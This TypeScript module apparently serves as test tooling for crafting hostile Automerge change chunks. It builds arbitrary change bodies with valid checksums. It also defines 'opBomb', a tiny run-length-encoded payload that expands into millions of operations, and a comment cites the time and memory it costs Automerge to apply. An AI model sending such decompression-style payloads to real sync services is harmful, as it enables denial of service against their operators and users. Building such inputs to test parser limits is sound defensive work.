import { ByteWriter, hexToBytes } from "../bytes/index.ts";
import { buildChange } from "../changes/index.ts";
import { COLUMN } from "../changes/columns.ts";

/** The parts of a change body as an attacker may choose them; everything has an innocent default. */
export interface CraftedChange {
  readonly deps?: readonly Uint8Array[];
  /** Hex, 16 bytes. */
  readonly actor: string;
  readonly seq?: number;
  readonly startOp: number;
  readonly time?: number;
  readonly message?: Uint8Array;
  readonly otherActors?: readonly string[];
  readonly columns: readonly (readonly [spec: number, data: Uint8Array])[];
  /** Bytes behind the columns ("extra bytes"). */
  readonly extra?: Uint8Array;
}

/** A run-length encoded column: `count` times the same unsigned value. */
export const runOf = (count: number, value: number): Uint8Array =>
  new ByteWriter().sleb(count).uleb(value).finish();
/** `count` times the same string. */
export const runOfText = (count: number, text: Uint8Array): Uint8Array =>
  new ByteWriter().sleb(count).uleb(text.length).bytes(text).finish();
/** A boolean column that says `false` so many times. */
export const allFalse = (count: number): Uint8Array => new ByteWriter().uleb(count).finish();

/** A chunk with a right checksum around whatever body was asked for. */
export const craftChange = (parts: CraftedChange): { bytes: Uint8Array; hash: Uint8Array } => {
  const body = new ByteWriter();
  body.uleb(parts.deps?.length ?? 0);
  for (const dep of parts.deps ?? []) body.bytes(dep);
  body
    .uleb(parts.actor.length / 2)
    .bytes(hexToBytes(parts.actor))
    .uleb(parts.seq ?? 1);
  body.uleb(parts.startOp).sleb(parts.time ?? 0);
  body.uleb(parts.message?.length ?? 0).bytes(parts.message ?? new Uint8Array());
  body.uleb(parts.otherActors?.length ?? 0);
  for (const other of parts.otherActors ?? []) body.uleb(other.length / 2).bytes(hexToBytes(other));
  body.uleb(parts.columns.length);
  for (const [spec, data] of parts.columns) body.uleb(spec).uleb(data.length);
  for (const [, data] of parts.columns) body.bytes(data);
  return buildChange(body.bytes(parts.extra ?? new Uint8Array()).finish());
};

/**
 * `count` operations in ~120 bytes: every column is one run. Setting the same key of the root object `count` times.
 * 10^6 of them take Automerge 18 s and 543 MB to apply.
 */
export const opBomb = (count: number, actor: string, startOp = 1, deps: readonly Uint8Array[] = []) =>
  craftChange({
    actor,
    startOp,
    deps,
    columns: [
      [COLUMN.keyString, runOfText(count, Uint8Array.of(107))],
      [COLUMN.insert, allFalse(count)],
      [COLUMN.action, runOf(count, 1)],
      [COLUMN.valueMeta, runOf(count, 2)],
      [COLUMN.predGroup, runOf(count, 0)],
    ],
  });
